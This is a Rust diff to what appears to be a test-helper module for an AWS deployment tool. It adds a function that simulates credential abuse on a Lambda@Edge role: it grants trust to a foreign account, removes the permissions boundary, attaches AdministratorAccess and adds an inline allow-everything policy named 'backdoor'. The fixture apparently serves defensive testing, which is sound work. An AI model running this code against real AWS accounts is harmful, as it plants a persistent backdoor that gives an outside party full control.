@@ -7,7 +7,7 @@ use aws_sdk_cloudfront::types::{
     Origins, S3OriginConfig, ViewerProtocolPolicy,
 };
 
-use super::{cloudfront, unique_bucket};
+use super::{cloudfront, iam, unique_bucket};
 
 pub const HEADERS_LAMBDA: &str =
     "arn:aws:lambda:us-east-1:123456789012:function:security-headers:4";
@@ -112,4 +112,45 @@ pub async fn create_distribution(bucket: &str, endpoint: &str) -> String {
         .await
         .unwrap();
     created.distribution().unwrap().id().to_string()
+}
+
+/// The shared role spadeploy's Lambda@Edge functions run as.
+pub const EDGE_ROLE: &str = "spadeploy-edge";
+
+/// What leaked deploy credentials might do to the edge role (created here if no test has yet):
+/// a foreign trust, no boundary, administrator access and an inline policy.
+pub async fn widen_edge_role() {
+    let foreign_trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::666666666666:root"},"Action":"sts:AssumeRole"}]}"#;
+    let iam = iam();
+    let _ = iam
+        .create_role()
+        .role_name(EDGE_ROLE)
+        .assume_role_policy_document(foreign_trust)
+        .send()
+        .await;
+    iam.update_assume_role_policy()
+        .role_name(EDGE_ROLE)
+        .policy_document(foreign_trust)
+        .send()
+        .await
+        .unwrap();
+    // Absent when the role was just made here.
+    let _ = iam
+        .delete_role_permissions_boundary()
+        .role_name(EDGE_ROLE)
+        .send()
+        .await;
+    iam.attach_role_policy()
+        .role_name(EDGE_ROLE)
+        .policy_arn("arn:aws:iam::aws:policy/AdministratorAccess")
+        .send()
+        .await
+        .unwrap();
+    iam.put_role_policy()
+        .role_name(EDGE_ROLE)
+        .policy_name("backdoor")
+        .policy_document(r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#)
+        .send()
+        .await
+        .unwrap();
 }
